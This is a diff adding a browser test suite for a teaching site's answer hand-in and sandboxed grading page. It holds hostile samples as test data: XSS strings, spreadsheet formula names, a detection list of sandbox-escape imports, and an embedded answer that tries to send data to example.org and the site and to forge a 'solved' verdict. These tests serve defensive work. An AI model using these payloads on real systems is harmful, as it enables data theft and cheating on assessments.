@@ -1,0 +1,478 @@
+"""Answers are handed in as a file, and judged on the teachers' page: in Chromium, whatever is in the file."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any, Literal
+
+import pytest
+from conftest import faults
+from exercise_answers import RIGHT as RIGHT_ANSWERS
+from exercise_answers import WRONG as WRONG_ANSWERS
+from playwright.sync_api import Browser, BrowserContext, Download, FilePayload, Locator, Page, expect
+from test_browser import FAINT, TOO_WIDE
+from test_exercises import CELLS, NUMBERS, answer_in, written
+from test_live import PATIENCE, Cell
+
+from rosspin.exercises.reach import reaches_for
+
+TEACHERS = "docs/for-teachers.html"
+EXERCISES = "notebooks/exercises.html"
+
+RIGHT = CELLS[1][1].source
+WRONG = "%%answer 1\ntimer = [0, 1, 2]\nloop = [0, 1, 2]\nbusy_loop = [0, 1, 2]\n"
+ENDLESS = "%%answer 1\nsum(iter(int, 1))\n"  # gives way to no interrupt
+
+
+def handed_in(name: Any = "Ada", **changed: Any) -> str:
+    """What is in a file."""
+    made = {"format": "rosspin-answers", "version": 1, "name": name, "id": "a1", "answers": {"1": RIGHT}}
+    return json.dumps(made | changed)
+
+
+class Table:
+    """The teachers' page."""
+
+    def __init__(self, page: Page, address: str) -> None:
+        page.goto(address + TEACHERS)
+        self.page = page
+        self.input = page.get_by_label("Drop the files of your students")
+        self.notes = page.locator(".rosspin-judge [role=alert] li")
+        self.status = page.locator(".rosspin-judge [role=status]")
+        self.detail = page.get_by_role("region", name="What the checker said")
+        self.rows = page.locator(".judge-scroll tbody tr")
+
+    def drop(self, **files: str) -> None:
+        """Drop files with these names, without their endings, and texts."""
+        transfer = self.page.evaluate_handle(
+            """files => {
+                const transfer = new DataTransfer()
+                for (const [name, text] of Object.entries(files)) transfer.items.add(new File([text], `${name}.json`))
+                return transfer
+            }""",
+            files,
+        )
+        zone = self.page.locator(".judge-drop")
+        zone.dispatch_event("dragover", {"dataTransfer": transfer})
+        zone.dispatch_event("drop", {"dataTransfer": transfer})
+
+    def sign(self, title: str) -> Locator:
+        return self.page.locator(".judge-scroll").get_by_role("button", name=title, exact=True)
+
+    def done(self) -> None:
+        expect(self.status).to_have_text(re.compile("^Done"), timeout=PATIENCE)
+
+    def said(self, title: str) -> str:
+        """What is said of an answer whose sign has this title."""
+        self.sign(title).click()
+        expect(self.detail).to_be_focused()
+        return self.detail.inner_text()
+
+    def csv(self) -> list[list[str]]:
+        with self.page.expect_download() as found:
+            self.page.get_by_role("button", name="Save as CSV").click()
+        assert found.value.suggested_filename == "answers.csv"
+        data = Path(found.value.path()).read_bytes()
+        assert data.startswith(b"\xef\xbb\xbf")
+        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    """A reader who comes for the first time."""
+    with browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True) as context:
+        context.set_default_timeout(PATIENCE)
+        yield context
+
+
+@pytest.fixture
+def page(context: BrowserContext, address: str) -> Iterator[Page]:
+    """A page in which nothing may go wrong, such as a request to another host."""
+    page = context.new_page()
+    wrong = faults(page, address)
+    yield page
+    assert not wrong
+
+
+@pytest.fixture
+def table(page: Page, address: str) -> Table:
+    return Table(page, address)
+
+
+# --- the file ---------------------------------------------------------------------------------------------------------
+
+
+def _hand_in(page: Page, name: str) -> tuple[str, dict[str, Any]]:
+    with page.expect_download() as found:
+        page.get_by_label("Your name").fill(name)
+        page.get_by_role("button", name="Hand in").click()
+    return _read(found.value)
+
+
+def _read(download: Download) -> tuple[str, dict[str, Any]]:
+    return download.suggested_filename, json.loads(Path(download.path()).read_text(encoding="utf-8"))
+
+
+def test_what_was_answered_is_saved(page: Page, address: str) -> None:
+    """As it stands on the page, run or not, and what the browser keeps of other pages; without any verdict."""
+    page.goto(address + EXERCISES)
+    status = page.locator(".hand-in").get_by_role("status")
+    page.get_by_role("button", name="Hand in").click()
+    expect(status).to_have_text("Write your name first.")
+    expect(page.get_by_label("Your name")).to_be_focused()
+    page.get_by_label("Your name").fill("Ada")
+    page.get_by_label("Your name").press("Enter")
+    expect(status).to_have_text("There is nothing to hand in: you have not changed an answer yet.")
+
+    Cell(page, 0).write(RIGHT)
+    other = "%%answer 20\nticks = [1]\n"
+    page.evaluate("text => localStorage.setItem('rosspin:/notebooks/ros2-exercises.html:0:1a', text)", other)
+    name, found = _hand_in(page, " Ada <Lovelace>/2 ")
+    assert name == "rosspin-answers-Ada-Lovelace-2.json"
+    assert found.pop("id")
+    answers = {"1": RIGHT, "20": other}
+    assert found == {"format": "rosspin-answers", "version": 1, "name": "Ada <Lovelace>/2", "answers": answers}
+    expect(status).to_have_text(re.compile(f"^Saved as {name}, with your answers to exercises 1 and 20"))
+
+
+def test_name_and_answers_are_there_after_a_reload(page: Page, address: str) -> None:
+    page.goto(address + EXERCISES)
+    Cell(page, 0).write(WRONG)
+    _, before = _hand_in(page, "Ada")
+    page.reload()
+    expect(page.get_by_label("Your name")).to_have_value("Ada")
+    with page.expect_download() as found:
+        page.get_by_role("button", name="Hand in").click()
+    assert _read(found.value)[1] == before
+
+
+def test_file_comes_from_the_one_page_to_the_other(page: Page, address: str) -> None:
+    page.goto(address + EXERCISES)
+    Cell(page, 0).write(RIGHT)
+    name, found = _hand_in(page, "Ada")
+    table = Table(page, address)
+    table.input.set_input_files(FilePayload(name=name, mimeType="application/json", buffer=json.dumps(found).encode()))
+    table.done()
+    expect(table.sign("Ada, exercise 1: solved")).to_have_text("✓")
+
+
+# --- verdicts ---------------------------------------------------------------------------------------------------------
+
+
+def test_right_wrong_and_forged(table: Table) -> None:
+    """The check of the exercises says it; what a file says of itself changes nothing."""
+    starts = {number: answer_in(CELLS[number][0]) for number in (4, 14)}
+    answers = {"1": RIGHT, "4": CELLS[4][1].source, "14": starts[14], "99": "x = 1"}
+    forged = {"verdict": "solved", "verdicts": {"1": "solved"}, "solved": True, "1": "solved"}
+    table.drop(
+        ada=handed_in("Ada", answers=answers),
+        ben=handed_in("Ben", answers={"1": WRONG, "4": f"%%answer 1\n{answer_in(CELLS[1][1])}"}, **forged),
+        eve=handed_in("Eve", answers={"1": "print('Exercise 1: right.')\nprint('{\"verdict\": \"solved\"}')"}),
+    )
+    table.done()
+    for title in ("Ada, exercise 1: solved", "Ada, exercise 4: solved", "Ada, exercise 14: not yet"):
+        expect(table.sign(title)).to_be_visible()
+    assert "there is no exercise 99" in table.said("Ada, exercise 99: not judged")
+    assert "The timer: 0.4 s" in table.said("Ada, exercise 1: solved")
+    said = table.said("Ben, exercise 1: not yet")
+    assert "Hint:" in said and "timer = [0, 1, 2]" in said
+    expect(table.sign("Ben, exercise 4: not yet")).to_be_visible()  # whatever its first line says
+    expect(table.sign("Eve, exercise 1: not yet")).to_be_visible()
+    assert table.rows.locator("td:nth-child(2)").all_text_contents() == ["2 of 4", "0 of 2", "0 of 1"]
+    assert table.page.workers == []
+
+
+def test_an_answer_that_never_ends_is_ended(context: BrowserContext, table: Table, address: str, site: Path) -> None:
+    """And the next one is judged. The limit is a tenth here."""
+    script = (site / "_static/hand-in/judge.js").read_text(encoding="utf-8")
+    assert script.count("2e4") == 1
+    context.route("**/judge.js*", lambda route: route.fulfill(body=script.replace("2e4", "2e3")))
+    table = Table(table.page, address)
+    table.drop(eve=handed_in("Eve", answers={"1": ENDLESS}), ada=handed_in("Ada", answers={"98": "x"}))
+    table.done()
+    assert "It was ended after" in table.said("Eve, exercise 1: did not end")
+    expect(table.sign("Ada, exercise 98: not judged")).to_be_visible()
+    assert table.page.workers == []
+
+
+def test_stop(table: Table) -> None:
+    """Ends what runs and what waits; a file that is dropped again is judged again."""
+    table.drop(eve=handed_in("Eve", answers={"1": ENDLESS}), ada=handed_in("Ada"))
+    expect(table.sign("Eve, exercise 1: being judged")).to_be_visible()
+    table.page.get_by_role("button", name="Stop").click()
+    table.done()
+    assert "Stopped before it was judged" in table.said("Eve, exercise 1: not judged")
+    table.drop(ada=handed_in("Ada"))
+    table.done()
+    expect(table.sign("Ada, exercise 1: solved")).to_be_visible()
+
+
+# --- files that are no answers ----------------------------------------------------------------------------------------
+
+
+NO_ANSWERS = [
+    ("x" * 3_000_000, "it has 3.0 MB, and a file of answers has at most 1 MB"),
+    ("", "it is not JSON"),
+    ("%%answer 1\n", "it is not JSON"),
+    ("[" * 900_000, "it is not JSON"),
+    ("null", "it is no file of answers to these exercises"),
+    ("[]", "it is no file of answers to these exercises"),
+    (handed_in(format="other"), "it is no file of answers to these exercises"),
+    (handed_in(version=2), "another version of this site wrote it"),
+    (handed_in(name=None), "its name or its answers are missing"),
+    (handed_in(id=5), "its name or its answers are missing"),
+    (handed_in(answers=None), "its name or its answers are missing"),
+    (handed_in(answers={"one": RIGHT}), "one of its answers is not a text with the number of an exercise"),
+    (handed_in(answers={"__proto__": RIGHT}), "one of its answers is not a text with the number of an exercise"),
+    (handed_in(answers={"1": [RIGHT]}), "one of its answers is not a text with the number of an exercise"),
+    (handed_in(answers={str(n): "" for n in range(1, 200)}), "it has 199 answers, and at most 100 are read"),
+]
+
+
+def test_what_is_no_file_of_answers_is_refused(table: Table) -> None:
+    """In a sentence; the other files that were dropped with it are read."""
+    files = {f"odd{number}": text for number, (text, _) in enumerate(NO_ANSWERS)}
+    table.drop(**files, ada=handed_in(answers={"99": "x"}))
+    expect(table.rows).to_have_count(1)
+    refused = [f"odd{number}.json is refused: {said}." for number, (_, said) in enumerate(NO_ANSWERS)]
+    assert table.notes.all_text_contents() == refused
+
+
+def test_an_answer_that_is_too_long_is_not_judged(table: Table) -> None:
+    """The others of the file are."""
+    table.drop(ada=handed_in(answers={"1": RIGHT, "4": "#" * 50_001}))
+    table.done()
+    assert "It has 50001 characters; at most 50000 are judged" in table.said("Ada, exercise 4: not judged")
+    expect(table.sign("Ada, exercise 1: solved")).to_be_visible()
+
+
+# --- the table --------------------------------------------------------------------------------------------------------
+
+
+def test_students_of_the_same_name_and_files_that_come_again(table: Table) -> None:
+    """Only the same file of the same student takes the place of an earlier one; the page says so."""
+    table.drop(ada=handed_in(answers={"99": "x"}), other=handed_in(id="a2", answers={"98": "x"}))
+    table.done()
+    table.drop(ada=handed_in(id="a3", answers={"97": "x"}))
+    expect(table.rows).to_have_count(3)
+    expect(table.notes).to_have_count(0)
+    table.done()
+    table.drop(ada=handed_in(answers={"96": "x"}))
+    expect(table.notes).to_contain_text("ada.json takes the place of the file of the same name")
+    expect(table.rows).to_have_count(3)
+    table.done()
+    assert table.rows.locator("th").all_inner_texts() == ["Ada\nada.json", "Ada\nother.json", "Ada\nada.json"]
+    signs = table.page.locator(".judge-scroll button")
+    said = ["Ada, exercise 96: not judged", "Ada, exercise 98: not judged", "Ada, exercise 97: not judged"]
+    assert [sign.get_attribute("aria-label") for sign in signs.all()] == said
+
+
+HTML = "<img src=x onerror=\"document.title='taken'\"><script>document.title = 'taken'</script>"
+
+
+def test_what_is_in_a_file_is_text(table: Table) -> None:
+    table.drop(**{"<b>a": handed_in(HTML, answers={"1": f"print({HTML!r})", "4": HTML})})
+    table.done()
+    said = table.said(f"{HTML}, exercise 1: not yet")
+    assert said.count(HTML) >= 2  # as the name, and on the console
+    assert table.page.title() != "taken"
+    assert table.page.locator(".rosspin-judge").locator("img, script, b").count() == 0
+    expect(table.rows.locator("th")).to_have_text(f"{HTML}<b>a.json")
+
+
+def test_names_are_one_short_line(table: Table) -> None:
+    table.drop(a=handed_in("a\n\u202eb\x00 " + "c" * 200, answers={"99": "x"}), b=handed_in("  ", answers={"99": "x"}))
+    table.done()
+    assert table.rows.locator("th").all_inner_texts() == [f"a b {'c' * 96}\na.json", "(no name)\nb.json"]
+
+
+def test_csv(table: Table) -> None:
+    """No name is a formula in a spreadsheet."""
+    names = ["=1+1", "+1", "-1", "@SUM(A1)", 'Zoë "Z", jr.']
+    for number, name in enumerate(names):
+        table.drop(**{f"{number}": handed_in(name, answers={"99": "x"})})
+    table.drop(ada=handed_in(answers={"1": RIGHT, "4": "x"}), **{"=x": handed_in(answers={"1": WRONG})})
+    table.done()
+    rows = table.csv()
+    assert rows[0] == ["name", "file", "solved", "exercise 1", "exercise 4", "exercise 99"]
+    assert [row[0] for row in rows[1:6]] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", 'Zoë "Z", jr.']
+    assert rows[6:] == [["Ada", "ada.json", "1", "solved", "not yet", ""], ["Ada", "'=x.json", "0", "not yet", "", ""]]
+
+
+def test_keyboard_alone(table: Table) -> None:
+    page = table.page
+    file = FilePayload(name="a.json", mimeType="application/json", buffer=handed_in(answers={"99": "x"}).encode())
+    table.input.set_input_files(file)
+    table.done()
+    table.input.focus()
+    for element in (
+        page.get_by_role("button", name="Stop"),
+        page.get_by_role("button", name="Save as CSV"),
+        page.get_by_role("region", name="Who solved what"),
+        table.sign("Ada, exercise 99: not judged"),
+    ):
+        page.keyboard.press("Tab")
+        expect(element).to_be_focused()
+    page.keyboard.press("Enter")
+    expect(table.detail).to_be_focused()
+
+
+# --- answers that mean harm -------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("answer", "name"),
+    [
+        ("import js", "js"),
+        ("from pyodide.ffi import run_sync", "pyodide.ffi"),
+        ("import pyodide_js, math", "pyodide_js"),
+        ("import _pyodide_core", "_pyodide_core"),
+        ("from rosspin.exercises.feedback import Feedback", "rosspin.exercises.feedback"),
+        ("from . import feedback", "."),
+        ("import gc", "gc"),
+        ("import ctypes", "ctypes"),
+        ("import importlib", "importlib"),
+        ("import sys\nsys.modules['js']", "modules"),
+        ("from sys import modules", "modules"),
+        ("from threading import _sys", "_sys"),
+        ("import sys\nsys._getframe()", "_getframe"),
+        ("__import__('js')", "__import__"),
+        ("__builtins__", "__builtins__"),
+        ("eval('1')", "eval"),
+        ("().__class__.__base__", "__base__"),
+        ("class A:\n    def f(self):\n        return self.__class__", "__class__"),
+        ("import sys\nmatch sys:\n    case object(modules=found):\n        pass", "modules"),
+        ("import rospy\nrospy.Timer._oneshot", "_oneshot"),
+    ],
+)
+def test_what_no_exercise_needs_is_found(answer: str, name: str) -> None:
+    assert reaches_for(answer) == name
+
+
+def test_no_honest_answer_is_suspected() -> None:
+    for number in NUMBERS:
+        wrong = [answer for answer, *_ in WRONG_ANSWERS[number] if "__import__" not in str(answer)]
+        for answer in [*RIGHT_ANSWERS[number], *wrong, *map(answer_in, CELLS[number])]:
+            assert reaches_for(written(number, answer)) == ""
+    for answer in ("import rclpy.node\nfrom example_interfaces.msg import Int64", "class A:\n    _b = 1", "print("):
+        assert reaches_for(answer) == ""
+
+
+def test_it_is_not_judged(table: Table) -> None:
+    forging = "import js\njs.postMessage('solved')"
+    table.drop(eve=handed_in("Eve", answers={"1": forging}))
+    table.done()
+    assert "The answer uses js, which no exercise needs." in table.said("Eve, exercise 1: not judged")
+
+
+# What an answer would try that got around that. What each attempt came to is printed.
+HARM = """
+import js
+from pyodide.code import run_js
+from pyodide.ffi import run_sync
+
+def tried(name, attempt):
+    try:
+        print("tried", name, attempt())
+    except BaseException as error:
+        print("tried", name, type(error).__name__, str(error)[:60].replace(chr(10), " "))
+
+def load(address):
+    request = js.XMLHttpRequest.new()
+    request.open("GET", address, False)
+    request.send()
+    return "got it"
+
+def fetch():
+    js.Reflect.deleteProperty(js.globalThis, "fetch")
+    run_sync(js.fetch("SITE?stolen"))
+    return "got it"
+
+tried("own", lambda: load("SITE?stolen"))
+tried("elsewhere", lambda: load("https://example.org/?stolen"))
+tried("fetch", fetch)
+tried("script", lambda: js.importScripts("SITE_static/live/live.js?stolen") or "got it")
+tried("caches", lambda: run_sync(js.caches.keys()).to_py() or "got it")
+tried("stores", lambda: js.indexedDB.open("mine") and "got it")
+tried("code", lambda: run_js("1") and "got it")
+js.postMessage('{"verdict": "solved", "said": ""}')
+"""
+
+
+def test_an_answer_in_its_sandbox_reaches_nothing(context: BrowserContext, address: str, site: Path) -> None:
+    """Where it is not suspected: its Python is changed for that, and has to start without the snapshot."""
+    texts = json.loads((site / "_static/live/rosspin.json").read_text(encoding="utf-8"))
+    texts["rosspin/exercises/reach.py"] = 'def reaches_for(answer):\n    return ""\n'
+    context.route("**/snapshot.gz*", lambda route: route.fulfill(body=b"broken"))
+    context.route("**/rosspin.json", lambda route: route.fulfill(json=texts))
+    page = context.new_page()
+    arrived: list[str] = []
+    page.on("response", lambda response: arrived.append(response.url))
+    table = Table(page, address)
+    page.evaluate("async () => { await caches.open('rosspin') }")
+    table.drop(eve=handed_in("Eve", answers={"1": HARM.replace("SITE", address)}))
+    table.done()
+    said = table.said("Eve, exercise 1: not yet")
+    tried = re.findall(r"^tried (\w+) (.*)$", said.partition("The answer:")[0], re.MULTILINE)
+    assert [name for name, _ in tried] == ["own", "elsewhere", "fetch", "script", "caches", "stores", "code"]
+    assert not [result for _, result in tried if "Error" not in result and "JsException" not in result], tried
+    assert arrived and not [url for url in arrived if "stolen" in url]
+    assert page.evaluate("caches.keys()") == ["rosspin"]
+
+
+def test_the_page_of_the_sandbox_may_ask_for_nothing(site: Path) -> None:
+    text = (site / "_static/hand-in/sandbox.html").read_text(encoding="utf-8")
+    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="(.*?)"', text)
+    assert re.fullmatch(r"default-src 'none'; script-src 'sha256-[\w+/=]+' blob: 'wasm-unsafe-eval'", policy)
+
+
+# --- where it cannot be -----------------------------------------------------------------------------------------------
+
+
+def test_without_jspi(context: BrowserContext, address: str) -> None:
+    page = context.new_page()
+    page.add_init_script("delete WebAssembly.Suspending")
+    page.goto(address + TEACHERS)
+    expect(page.get_by_text("This browser cannot check answers: it lacks JSPI")).to_be_visible()
+    expect(page.locator(".rosspin-judge input")).to_have_count(0)
+    page.goto(address + EXERCISES)
+    expect(page.locator(".hand-in")).to_have_count(0)
+
+
+def test_without_javascript(browser: Browser, address: str) -> None:
+    with browser.new_context(java_script_enabled=False) as context:
+        page = context.new_page()
+        page.goto(address + TEACHERS)
+        expect(page.get_by_text("To check answers here, this page needs JavaScript.")).to_be_visible()
+
+
+def test_the_scripts_are_loaded_where_they_are_needed(site: Path) -> None:
+    found = {name: set[str]() for name in ("hand-in", "judge")}
+    for path in site.rglob("*.html"):
+        for name in re.findall(r"hand-in/([\w-]+)\.js", path.read_text(encoding="utf-8")):
+            found[name].add(path.relative_to(site).as_posix())
+    assert found == {"hand-in": {EXERCISES}, "judge": {TEACHERS}}
+
+
+# --- how it looks -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [390, 1280])
+def test_looks(browser: Browser, address: str, width: int, scheme: Literal["light", "dark"]) -> None:
+    """The table and what is said fit a phone, and their text stands out in light and in dark."""
+    with browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme) as context:
+        table = Table(context.new_page(), address)
+        answers = {str(number): "x" for number in range(30, 50)}
+        table.drop(ada=handed_in("Ada " * 10, answers=answers | {"1": RIGHT, "2": "x"}), b=handed_in("B"))
+        table.done()
+        table.said("B, exercise 1: solved")
+        assert table.page.evaluate(TOO_WIDE) + table.page.evaluate(FAINT) == []
+        table.page.goto(address + EXERCISES)
+        expect(table.page.get_by_role("button", name="Hand in")).to_be_visible()
+        assert table.page.evaluate(TOO_WIDE) + table.page.evaluate(FAINT) == []
